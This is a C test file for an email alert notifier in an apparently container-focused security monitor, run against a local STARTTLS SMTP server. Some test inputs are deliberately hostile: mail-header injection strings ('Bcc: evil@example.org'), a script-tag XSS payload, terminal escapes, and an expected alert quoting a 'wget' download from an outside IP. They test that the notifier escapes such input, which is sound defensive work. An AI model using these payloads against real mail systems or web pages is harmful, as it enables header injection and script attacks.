/* test_mail.c - mail through a real SMTP server that requires STARTTLS (tests/e2e/smtpd.sh). */
#include "tests/collector/notify/notifying.h"

#include <arpa/inet.h>
#include <dirent.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/wait.h>

static char server_dir[64];
static char url[64], ca[128], wrong_ca[128], from[] = "Picket <picket@example.org>",
	to1[] = "soc@example.org", to2[] = "Night shift <night@example.org>", name[] = "mail";
static char *to[] = { to1, to2 };
static char inbox[] = "https://collector:8443";
static struct notifying n;
static struct notify_mail mail;
static struct notify_config cfg;

static int free_port(void)
{
	struct sockaddr_in at = { .sin_family = AF_INET, .sin_addr = { htonl(INADDR_LOOPBACK) } };
	socklen_t size = sizeof(at);
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	assert_int_equal(bind(fd, (struct sockaddr *)&at, sizeof(at)), 0);
	assert_int_equal(getsockname(fd, (struct sockaddr *)&at, &size), 0);
	close(fd);
	return ntohs(at.sin_port);
}

static int smtpd(const char *what, int port)
{
	char command[512], number[16] = "";

	if (port)
		snprintf(number, sizeof(number), "%d", port);
	snprintf(command, sizeof(command), "sh '%s/tests/e2e/smtpd.sh' %s '%s' %s", TEST_ROOT, what,
		 server_dir, number);
	int status = system(command);
	return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}

static void begin(void)
{
	char command[256];

	snprintf(command, sizeof(command), "rm -f '%s'/mail/new/*", server_dir);
	assert_int_equal(system(command), 0);
	memset(&n, 0, sizeof(n));
	people_open(&n.p);
	mail = (struct notify_mail){ .name = name, .url = url, .from = from, .ca_file = ca,
				     .to = { .items = to, .count = 2 } };
	cfg = (struct notify_config){ .mails = &mail, .mail_count = 1, .inbox_url = inbox,
				      .group_wait_ms = 300, .max_attempts = 2 };
}

static void finish(void)
{
	notifying_close(&n);
	people_close(&n.p);
}

/* How many mails came (one file per receiver); the text of one of them. Waits until there are as many. */
static unsigned mails(unsigned wanted, struct buf *ret)
{
	char path[128], file[512];
	unsigned count = 0;

	snprintf(path, sizeof(path), "%s/mail/new", server_dir);
	buf_init(ret, 0);
	for (unsigned tries = 0; tries < 50; tries++) {
		DIR *d = opendir(path);

		count = 0;
		for (struct dirent *e = d ? readdir(d) : NULL; e; e = readdir(d)) {
			if (e->d_name[0] == '.')
				continue;
			if (!count++) {
				buf_fini(ret);
				snprintf(file, sizeof(file), "%s/%s", path, e->d_name);
				MUST(file_read(file, 1 << 20, ret, &must_err));
			}
		}
		if (d)
			closedir(d);
		if (count >= wanted && wanted)
			break;
		usleep(wanted ? 100 * 1000 : 10 * 1000);
	}
	return count;
}

static bool holds(const struct buf *text, const char *part)
{
	return text->p && strstr(text->p, part) != NULL;
}

static void a_mail_tells_the_whole_story_in_text_and_html(void **state)
{
	static char opened[] = "openat";
	Picket__File file = PICKET__FILE__INIT;
	struct people_finding f;
	struct buf text;

	(void)state;
	begin();
	notifying_open(&n, &cfg);
	people_finding(&f, clock_unix_ns(clock_real()));
	f.finding.call = opened;
	f.finding.file = &file;
	file.path = people_bytes("/x\r\nBcc: <b>");
	notifying_alert(&n, &f);
	assert_true(notifying_until(&n, 0, 0, 10000));
	assert_int_equal(mails(2, &text), 2);
	if (getenv("SHOW_MAIL"))
		fputs(text.p, stdout);
	assert_true(holds(&text, "Subject: [picket high] Download tool in container: web-1 on host-07\n"));
	assert_true(holds(&text, "From: Picket <picket@example.org>"));
	assert_true(holds(&text, "Night shift <night@example.org>"));
	assert_true(holds(&text, "@example.org>")); /* Message-ID */
	assert_true(holds(&text, "Content-Type: multipart/alternative"));
	assert_true(holds(&text, "Started by sh -c wget http://203.0.113.9/x (pid 41, /bin/dash)"));
	assert_true(holds(&text, "File       openat /x\\r\\nBcc: <b> (read)"));
	assert_false(holds(&text, "\nBcc:"));
	assert_false(holds(&text, "<b>\n</td>"));
	assert_true(holds(&text, "picketctl alert show 1"));
	assert_true(holds(&text, "with ESMTPS"));
	buf_fini(&text);
	finish();
}

static void alerts_of_one_rule_and_host_within_the_wait_are_one_mail(void **state)
{
	static char ids[3][8];
	struct people_finding f;
	struct buf text;

	(void)state;
	begin();
	notifying_open(&n, &cfg);
	for (int i = 0; i < 3; i++) {
		people_finding(&f, clock_unix_ns(clock_real()));
		snprintf(ids[i], sizeof(ids[i]), "c%d", i);
		f.container.id = ids[i];
		notifying_alert(&n, &f);
	}
	assert_true(notifying_until(&n, 0, 0, 10000));
	assert_int_equal(mails(2, &text), 2);
	assert_true(holds(&text, "Subject: [picket high] Download tool in container: web-1 and 2 more on host-07"));
	buf_fini(&text);
	finish();
}

static void a_name_cannot_add_a_header_or_html(void **state)
{
	static char rule[] = "x\r\nBcc: evil@example.org\r\n\r\n\xc3\xa9";
	struct people_finding f;
	struct buf text;

	(void)state;
	begin();
	notifying_open(&n, &cfg);
	people_finding(&f, clock_unix_ns(clock_real()));
	f.finding.rule = rule;
	f.container.name = people_bytes("<script>alert(1)</script>\xe2\x80\xae");
	f.process.args = msg_bytes(SLICE_LIT("-q\0\033[2J\n.\n\0"));
	notifying_alert(&n, &f);
	assert_true(notifying_until(&n, 0, 0, 10000));
	assert_int_equal(mails(2, &text), 2);
	assert_false(holds(&text, "\nBcc:"));
	assert_null(strstr(strstr(text.p, "text/html"), "<script>")); /* the plain text may say so */
	assert_non_null(strstr(strstr(text.p, "text/html"), "&lt;script&gt;alert(1)&lt;/script&gt;"));
	assert_false(holds(&text, "\033"));
	assert_true(holds(&text, "Subject: =?UTF-8?Q?"));
	assert_true(holds(&text, "\\x1b[2J\\n.\\n"));
	buf_fini(&text);
	finish();
}

static void names_of_any_length_do_not_keep_a_mail_from_going(void **state)
{
	static char ids[33][8], args[LIMIT_ARGS_BYTES], image[LIMIT_NAME_BYTES], rule[LIMIT_NAME_BYTES];
	struct people_finding f;
	struct buf text;

	(void)state;
	memset(args, '"', sizeof(args));
	memset(image, '=', sizeof(image) - 1);
	memset(rule, 1, sizeof(rule) - 1);
	begin();
	cfg.group_wait_ms = 3000; /* a busy machine makes 33 such alerts in more than 300 ms */
	notifying_open(&n, &cfg);
	for (size_t i = 0; i < ARRAY_LEN(ids); i++) {
		people_finding(&f, clock_unix_ns(clock_real()));
		snprintf(ids[i], sizeof(ids[i]), "c%zu", i);
		f.container.id = ids[i];
		f.container.image = people_bytes(image);
		f.finding.rule = rule;
		f.finding.description = rule;
		f.process.args = f.parent.cmdline = msg_bytes(slice_from(args, sizeof(args)));
		notifying_alert(&n, &f);
	}
	assert_true(notifying_until(&n, 0, 0, 20000));
	assert_int_equal(mails(4, &text), 4); /* 32 alerts and 1, for two receivers */
	print_message("the larger of two mails: %zu bytes\n", text.n);
	buf_fini(&text);
	finish();
}

static void a_server_with_a_foreign_certificate_gets_nothing(void **state)
{
	struct people_finding f;
	struct buf text;

	(void)state;
	begin();
	people_certificates(n.p.dir);
	snprintf(wrong_ca, sizeof(wrong_ca), "%s/ca.pem", n.p.dir);
	mail.ca_file = wrong_ca;
	cfg.max_attempts = 1;
	notifying_open(&n, &cfg);
	people_finding(&f, clock_unix_ns(clock_real()));
	notifying_alert(&n, &f);
	assert_true(notifying_until(&n, 0, 1, 10000));
	print_message("refused: %s\n", notifying_count(&n).last_error);
	assert_int_equal(mails(0, &text), 0);
	buf_fini(&text);
	finish();
}

/* Somebody left, and the list was not changed. */
static void one_refused_receiver_does_not_keep_the_others_from_hearing(void **state)
{
	static char gone[] = "gone@example..org", *with_gone[] = { to1, gone, to2 };
	struct people_finding f;
	struct buf text;

	(void)state;
	begin();
	mail.to.items = with_gone;
	mail.to.count = 3;
	cfg.max_attempts = 5;
	notifying_open(&n, &cfg);
	people_finding(&f, clock_unix_ns(clock_real()));
	notifying_alert(&n, &f);
	assert_true(notifying_until(&n, 0, 0, 20000));
	assert_int_equal(mails(2, &text), 2);
	buf_fini(&text);
	finish();
}

static void a_refused_sender_is_a_dead_letter(void **state)
{
	struct people_finding f;

	(void)state;
	begin();
	mail.starttls = 2; /* none: the server answers 530 */
	notifying_open(&n, &cfg);
	people_finding(&f, clock_unix_ns(clock_real()));
	notifying_alert(&n, &f);
	assert_true(notifying_until(&n, 0, 1, 10000));
	finish();
}

static void a_configuration_that_cannot_work_is_refused_at_start(void **state)
{
	static char bad[] = "a@b\r\nBcc: c@d", two_in_one[] = "a@example.org,b@example.org";
	struct notify *x = NULL;
	struct err err = { 0 };

	(void)state;
	begin();
	notifying_open(&n, &cfg);
	mail.from = bad;
	assert_int_equal(notify_new(n.loop, n.p.store, n.pool, &n.p.clk, &cfg, &x, &err), -ERR_SYNTAX);
	mail.from = from;
	to[0] = two_in_one;
	assert_int_equal(notify_new(n.loop, n.p.store, n.pool, &n.p.clk, &cfg, &x, &err), -ERR_SYNTAX);
	to[0] = to1;
	mail.to.count = 0;
	assert_int_equal(notify_new(n.loop, n.p.store, n.pool, &n.p.clk, &cfg, &x, &err), -ERR_SYNTAX);
	finish();
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a_mail_tells_the_whole_story_in_text_and_html),
		cmocka_unit_test(alerts_of_one_rule_and_host_within_the_wait_are_one_mail),
		cmocka_unit_test(a_name_cannot_add_a_header_or_html),
		cmocka_unit_test(names_of_any_length_do_not_keep_a_mail_from_going),
		cmocka_unit_test(a_server_with_a_foreign_certificate_gets_nothing),
		cmocka_unit_test(one_refused_receiver_does_not_keep_the_others_from_hearing),
		cmocka_unit_test(a_refused_sender_is_a_dead_letter),
		cmocka_unit_test(a_configuration_that_cannot_work_is_refused_at_start),
	};
	int port = free_port();

	snprintf(server_dir, sizeof(server_dir), "/tmp/picket-smtpd-XXXXXX");
	if (!mkdtemp(server_dir))
		return 1;
	snprintf(url, sizeof(url), "smtp://127.0.0.1:%d", port);
	snprintf(ca, sizeof(ca), "%s/ca.pem", server_dir);
	int r = smtpd("start", port);
	if (r == 0)
		r = cmocka_run_group_tests(tests, NULL, NULL);
	(void)smtpd("stop", 0);
	char command[128];
	snprintf(command, sizeof(command), "rm -rf '%s'", server_dir);
	return system(command) == 0 ? r : 1;
}
